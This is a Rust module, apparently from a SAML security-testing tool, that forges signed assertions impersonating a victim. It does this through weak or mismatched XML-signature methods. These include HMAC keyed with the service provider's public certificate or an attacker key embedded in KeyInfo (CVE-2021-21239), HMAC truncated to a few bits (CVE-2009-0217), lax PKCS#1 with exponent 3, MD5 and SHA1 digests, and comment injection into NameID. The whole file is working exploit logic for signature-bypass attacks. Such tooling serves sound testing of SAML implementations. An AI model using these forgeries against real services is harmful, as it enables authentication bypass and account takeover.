//! Signature, digest and canonicalisation methods that are weak, of another kind, or unknown.

use openssl::hash::MessageDigest;
use saml_model::names;

use super::super::forge::{Canonicalization, Forge, Seal, key_info, transform};
use super::super::impostor::say_it_of_the_victim;
use super::super::tree::{Node, Tree, escaped};
use super::super::{Action, FaultError, Inputs, Parameters};
use super::choice;
use super::keys::attacker;

pub(in super::super) const ACTIONS: &[(&str, Action)] = &[
    ("sig-alg-keytype-mismatch", Action::Forge(key_type_mismatch)),
    ("sig-alg-pss", Action::Forge(pss)),
    ("sig-alg-unknown", Action::Forge(unknown)),
    ("sig-c14n-inclusive", Action::Forge(inclusive)),
    ("sig-c14n-unknown", Action::Forge(unknown_canonicalization)),
    ("sig-c14n-with-comments", Action::Draft(comment_in_name_id)),
    ("sig-c14n-with-comments", Action::Forge(with_comments)),
    ("sig-digest-sha1", Action::Forge(digest_sha1)),
    ("sig-hmac-embedded-key", Action::Value(say_it_of_the_victim)),
    ("sig-hmac-embedded-key", Action::Signing(attacker)),
    ("sig-hmac-embedded-key", Action::Forge(embedded_key)),
    ("sig-hmac-public-key", Action::Value(say_it_of_the_victim)),
    ("sig-hmac-public-key", Action::Signing(attacker)),
    ("sig-hmac-public-key", Action::Forge(public_key)),
    ("sig-hmac-truncated", Action::Value(say_it_of_the_victim)),
    ("sig-hmac-truncated", Action::Signing(attacker)),
    ("sig-hmac-truncated", Action::Forge(truncated)),
    ("sig-pkcs1-lax", Action::Value(say_it_of_the_victim)),
    ("sig-pkcs1-lax", Action::Forge(lax)),
    ("sig-prefixlist", Action::Draft(declare_prefixes)),
    ("sig-prefixlist", Action::Forge(prefix_list)),
    ("sig-rsa-md5", Action::Forge(md5)),
];

/// RFC 9231 2.3.10.
const RSA_PSS_SHA256: &str = "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1";
/// RFC 9231 2.3.1.
const RSA_MD5: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5";
/// RFC 9231 2.1.1.
const MD5: &str = "http://www.w3.org/2001/04/xmldsig-more#md5";
/// xmldsig-core1 6.3.1.
const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
/// xmldsig-core1 6.3.1.
const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
/// xmldsig-core1 6.5.1.
const C14N_INCLUSIVE: &str = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315";
/// xmldsig-core1 6.5.2.
const C14N_INCLUSIVE_11: &str = "http://www.w3.org/2006/12/xml-c14n11";
/// Of nobody.
const UNKNOWN: &str = "urn:example:unknown-algorithm";

/// The key of an HMAC that everybody can read in the message.
const EMBEDDED_KEY: &[u8] = b"written by the attackers";

/// The most bits that are left of a truncated HMAC.
const TRUNCATED_BITS_MAX: usize = 40;

fn digest_sha1(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    names::DIGEST_SHA1.clone_into(&mut forge.digest_method);
    forge.digest = MessageDigest::sha1();
    Ok(())
}

fn md5(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    RSA_MD5.clone_into(&mut forge.method);
    MD5.clone_into(&mut forge.digest_method);
    (forge.hash, forge.digest) = (MessageDigest::md5(), MessageDigest::md5());
    Ok(())
}

fn pss(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    RSA_PSS_SHA256.clone_into(&mut forge.method);
    forge.hash = MessageDigest::sha256();
    forge.seal = Seal::RsaPss;
    Ok(())
}

fn lax(forge: &mut Forge, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    let key = inputs
        .own()?
        .certificate
        .public_key()
        .map_err(|_| FaultError::NotSigned)?;
    let rsa = key.rsa().map_err(|_| FaultError::NotSigned)?;
    if rsa.e().to_vec() != [3] {
        return Err(FaultError::LargeExponent);
    }
    names::SIG_RSA_SHA256.clone_into(&mut forge.method);
    forge.seal = Seal::RsaLax;
    Ok(())
}

fn unknown(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    forge.method = escaped(parameters.get("uri").map_or(UNKNOWN, String::as_str));
    forge.hash = choice(
        parameters,
        "hash",
        &[
            ("sha256", MessageDigest::sha256()),
            ("sha1", MessageDigest::sha1()),
        ],
    )?;
    Ok(())
}

/// The octets are RSA's; the method says otherwise.
fn key_type_mismatch(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let method = choice(
        parameters,
        "method",
        &[
            ("ecdsa-sha256", names::SIG_ECDSA_SHA256),
            ("dsa-sha1", "http://www.w3.org/2000/09/xmldsig#dsa-sha1"),
            ("dsa-sha256", "http://www.w3.org/2009/xmldsig11#dsa-sha256"),
        ],
    )?;
    method.clone_into(&mut forge.method);
    Ok(())
}

/// The service provider's own idea of the trusted key becomes a secret that everybody knows.
fn public_key(forge: &mut Forge, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    let secret = octets_of_the_key(parameters, inputs)?;
    hmac(forge, parameters, Seal::Hmac(secret))?;
    forge.key_info = key_info(inputs.own()?.certificate.der());
    Ok(())
}

fn octets_of_the_key(parameters: &Parameters, inputs: &Inputs<'_>) -> Result<Vec<u8>, FaultError> {
    #[derive(Clone, Copy)]
    enum Form {
        Pem,
        Der,
        Spki,
        SpkiPem,
        Modulus,
    }
    let form = choice(
        parameters,
        "key",
        &[
            ("pem", Form::Pem),
            ("der", Form::Der),
            ("spki", Form::Spki),
            ("spki-pem", Form::SpkiPem),
            ("modulus", Form::Modulus),
        ],
    )?;
    let certificate = &inputs.own()?.certificate;
    let key = certificate.public_key().map_err(|_| FaultError::NotSigned)?;
    let octets = match form {
        Form::Pem => Ok(certificate.pem().into_bytes()),
        Form::Der => Ok(certificate.der().to_vec()),
        Form::Spki => key.public_key_to_der(),
        Form::SpkiPem => key.public_key_to_pem(),
        Form::Modulus => key.rsa().map(|rsa| rsa.n().to_vec()),
    };
    octets.map_err(|_| FaultError::NotSigned)
}

/// The form in which xmlsec1 takes it (pysaml2, CVE-2021-21239).
fn embedded_key(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    use base64::Engine as _;
    hmac(forge, parameters, Seal::Hmac(EMBEDDED_KEY.to_vec()))?;
    forge.key_info = format!(
        "<KeyInfo><KeyValue><HMACKeyValue xmlns=\"http://www.aleksey.com/xmlsec/2002\">{}</HMACKeyValue></KeyValue></KeyInfo>",
        base64::engine::general_purpose::STANDARD.encode(EMBEDDED_KEY)
    );
    Ok(())
}

/// So few bits that they can be guessed (CVE-2009-0217).
fn truncated(forge: &mut Forge, parameters: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    let bits = super::number(parameters, "bits", 8, 1..=TRUNCATED_BITS_MAX)?;
    let secret = octets_of_the_key(&Parameters::new(), inputs)?;
    hmac(forge, parameters, Seal::HmacTruncated(secret, bits))?;
    forge.method_content = format!("<HMACOutputLength>{bits}</HMACOutputLength>");
    forge.key_info.clear();
    Ok(())
}

fn hmac(forge: &mut Forge, parameters: &Parameters, seal: Seal) -> Result<(), FaultError> {
    let (method, hash) = choice(
        parameters,
        "hash",
        &[
            ("sha256", (HMAC_SHA256, MessageDigest::sha256())),
            ("sha1", (HMAC_SHA1, MessageDigest::sha1())),
        ],
    )?;
    method.clone_into(&mut forge.method);
    forge.hash = hash;
    forge.seal = seal;
    Ok(())
}

/// The signature says nothing of the comment, and neither does the text: the NameID is what it was.
fn comment_in_name_id(message: &mut Tree, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let name_id = message.at_mut(&["Assertion", "Subject", "NameID"])?;
    let text = name_id.content();
    let at = text.find(['@', '.']).unwrap_or(0);
    name_id.set_content(format!("{}<!---->{}", &text[..at], &text[at..]));
    Ok(())
}

/// A reference by ID leaves comments out before any transform sees them (xmldsig-core1 4.4.3.3).
fn with_comments(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let uri = names::C14N_EXCLUSIVE_WITH_COMMENTS;
    uri.clone_into(&mut forge.canonicalization.uri);
    forge.canonicalization.with_comments = true;
    forge.transforms = vec![transform(names::TRANSFORM_ENVELOPED), transform(uri)];
    Ok(())
}

fn inclusive(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let versions = [("1.0", C14N_INCLUSIVE), ("1.1", C14N_INCLUSIVE_11)];
    let uri = choice(parameters, "version", &versions)?;
    let inclusive = Canonicalization {
        uri: uri.to_owned(),
        content: String::new(),
        with_comments: false,
        prefixes: None,
    };
    forge.canonicalization = inclusive.clone();
    forge.transforms = vec![transform(names::TRANSFORM_ENVELOPED), transform(uri)];
    forge.transformed = inclusive;
    Ok(())
}

fn unknown_canonicalization(
    forge: &mut Forge,
    parameters: &Parameters,
    _: &Inputs<'_>,
) -> Result<(), FaultError> {
    if choice(parameters, "form", &[("unknown", false), ("twice", true)])? {
        let second = format!(
            "<CanonicalizationMethod Algorithm=\"{}\"/>",
            forge.canonicalization.uri
        );
        forge.more_references.0.push_str(&second);
    } else {
        forge.canonicalization.uri = escaped(parameters.get("uri").map_or(UNKNOWN, String::as_str));
    }
    Ok(())
}

/// The prefixes that the list names, of which nothing else makes use.
const DECLARED: [(&str, &str); 2] = [
    ("xmlns:xs", "http://www.w3.org/2001/XMLSchema"),
    ("xmlns:xsi", names::NS_XSI),
];

fn declare_prefixes(message: &mut Tree, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    for (name, namespace) in DECLARED {
        message.set(name, namespace);
        for child in &mut message.children {
            if let Node::Tree(child) = child
                && child.local() == "Assertion"
            {
                child.set(name, namespace);
            }
        }
    }
    Ok(())
}

fn prefix_list(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let content = format!(
        "<InclusiveNamespaces xmlns=\"{}\" PrefixList=\"xs xsi #default\"/>",
        names::C14N_EXCLUSIVE
    );
    let listed = Canonicalization {
        prefixes: Some(["xs", "xsi", "#default"].map(str::to_owned).to_vec()),
        content: content.clone(),
        ..Canonicalization::exclusive()
    };
    forge.canonicalization = listed.clone();
    forge.transforms = vec![
        transform(names::TRANSFORM_ENVELOPED),
        format!(
            "<Transform Algorithm=\"{}\">{content}</Transform>",
            names::C14N_EXCLUSIVE
        ),
    ];
    forge.transformed = listed;
    Ok(())
}
